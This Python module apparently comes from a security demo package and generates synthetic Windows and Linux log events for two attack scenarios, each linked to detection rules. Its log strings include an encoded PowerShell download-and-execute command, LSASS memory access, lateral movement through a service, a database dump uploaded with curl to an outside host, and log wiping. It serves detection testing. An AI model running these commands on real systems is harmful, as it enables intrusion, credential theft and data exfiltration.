"""Attacks that start at a desk."""

from __future__ import annotations

import base64
import random
from datetime import datetime, timedelta

from bigsec.demo.estate import CHEN, DATABASE, DELIVERY, DROP, FILES, ZHOU
from bigsec.demo.journal import LINUX, WINDOWS, Journal
from bigsec.demo.render import SYSMON, history, syslog, windows
from bigsec.demo.story import Story, rule_id

_POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_RUNDLL = r"C:\Windows\System32\rundll32.exe"
_WORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
_TEMP = rf"C:\Users\{CHEN.login}\AppData\Local\Temp"
_ACCOUNT: dict[str, object] = {"SubjectUserName": CHEN.login, "SubjectDomainName": "CORP"}


def windows_chain(journal: Journal, end: datetime, dice: random.Random) -> Story:
    """A document starts PowerShell; secrets are read from memory and used on the file server."""
    desk, at = CHEN.desk, end - timedelta(minutes=140)
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{DELIVERY}/a')"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    shell = _started(_POWERSHELL, f"powershell.exe -nop -w hidden -enc {encoded}", _WORD)
    library = _started(_RUNDLL, rf"rundll32.exe {_TEMP}\upd.dll,Start", _POWERSHELL)
    for minutes, host, channel, event_id, data, provider in (
        (0, desk, SYSMON, 1, shell, None),
        (2, desk, SYSMON, 1, library, None),
        (9, desk, SYSMON, 10, _DUMP, None),
        (7, desk, SYSMON, 3, _CONNECTION, None),
        (0, FILES, "Security", 4624, _LOGON, None),
        (0, FILES, "Security", 5145, _WRITTEN, None),
        (1, FILES, "System", 7045, _SERVICE, None),
        (18, desk, "Security", 1102, _ACCOUNT, "Microsoft-Windows-Eventlog"),
    ):
        at += timedelta(minutes=minutes, seconds=dice.randrange(1, 50))
        journal.add(WINDOWS, at, windows(at, host, channel, event_id, data, provider))
    return Story(
        name="windows-chain",
        about="A document starts PowerShell, log-on secrets are read and used, the trail is wiped.",
        rules=(
            rule_id("win_office_starts_interpreter"),
            rule_id("win_powershell_encoded_command"),
            rule_id("win_script_proxy_remote_code"),
            rule_id("win_lsass_memory_access"),
            rule_id("win_temp_program_connects"),
            rule_id("win_admin_share_program_written"),
            rule_id("win_service_runs_command"),
            rule_id("win_audit_log_cleared"),
        ),
        entities=(("host", desk.fqdn), ("host", FILES.fqdn), ("ip", desk.ip)),
    )


_DUMP: dict[str, object] = {
    "SourceImage": rf"{_TEMP}\upd.exe",
    "TargetImage": r"C:\Windows\System32\lsass.exe",
    "GrantedAccess": "0x1410",
    "SourceUser": rf"CORP\{CHEN.login}",
}
_CONNECTION: dict[str, object] = {
    "Image": rf"{_TEMP}\upd.exe",
    "User": rf"CORP\{CHEN.login}",
    "Protocol": "tcp",
    "Initiated": "true",
    "SourceIp": CHEN.desk.ip,
    "SourcePort": 50211,
    "DestinationIp": FILES.ip,
    "DestinationPort": 445,
}
_LOGON: dict[str, object] = {
    "TargetUserName": CHEN.login,
    "TargetDomainName": "CORP",
    "LogonType": 3,
    "AuthenticationPackageName": "NTLM",
    "IpAddress": CHEN.desk.ip,
    "IpPort": "50211",
}
_WRITTEN: dict[str, object] = _ACCOUNT | {
    "ObjectType": "File",
    "IpAddress": CHEN.desk.ip,
    "IpPort": "50211",
    "ShareName": r"\\*\ADMIN$",
    "RelativeTargetName": r"Temp\r.bat",
    "AccessMask": "0x2",
    "AccessList": "%%4417",
}
_SERVICE: dict[str, object] = {
    "ServiceName": "WinUpdSvc",
    "ImagePath": r"%COMSPEC% /C C:\Windows\Temp\r.bat",
    "ServiceType": "user mode service",
    "StartType": "demand start",
    "AccountName": "LocalSystem",
}


def _started(image: str, command: str, parent: str) -> dict[str, object]:
    """What Sysmon tells of a program that chen.hao's session started."""
    return {
        "ProcessId": 7120,
        "Image": image,
        "OriginalFileName": image.rsplit("\\", 1)[-1],
        "CommandLine": command,
        "User": rf"CORP\{CHEN.login}",
        "IntegrityLevel": "Medium",
        "ParentImage": parent,
    }


def data_theft(journal: Journal, end: datetime, dice: random.Random) -> Story:
    """Someone on loan becomes root on the database, and carries it away."""
    at = end - timedelta(minutes=55)

    def tell(program: str, message: str, pid: int | None, seconds: int) -> None:
        nonlocal at
        at += timedelta(seconds=seconds)
        journal.add(LINUX, at, syslog(at, DATABASE, program, message, pid))

    for _ in range(3):
        refused = (
            f"pam_unix(su:auth): authentication failure; logname={ZHOU.login} uid={ZHOU.uid} "
            f"euid=0 tty=/dev/pts/1 ruser={ZHOU.login} rhost=  user=root"
        )
        tell("su", refused, 41877, dice.randrange(8, 30))
        tell("su", f"FAILED SU (to root) {ZHOU.login} on pts/1", 41877, 0)
    order = f"{ZHOU.login} : TTY=pts/1 ; PWD=/home/{ZHOU.login} ; USER=root ; COMMAND=/bin/bash"
    tell("sudo", order, None, 120)
    for seconds, command in (
        (95, "pg_dump -Fc -f /dev/shm/.p/permits.dump permits"),
        (240, "tar czf /dev/shm/.p/permits.tgz /dev/shm/.p/permits.dump"),
        (30, f"curl -s -T /dev/shm/.p/permits.tgz https://{DROP}/in/"),
        (600, "rm -rf /dev/shm/.p"),
        (15, "history -c"),
    ):
        tell(*history(0, command), 41902, seconds + dice.randrange(20))
    return Story(
        name="data-theft",
        about="Someone on loan becomes root on the database, dumps it and sends it outside.",
        rules=(
            rule_id("su_failed_root"),
            rule_id("sudo_root_shell"),
            rule_id("linux_database_dumped_to_temp"),
            rule_id("linux_file_sent_out"),
            rule_id("linux_history_wiped"),
        ),
        entities=(("user", ZHOU.login), ("host", DATABASE.name)),
    )
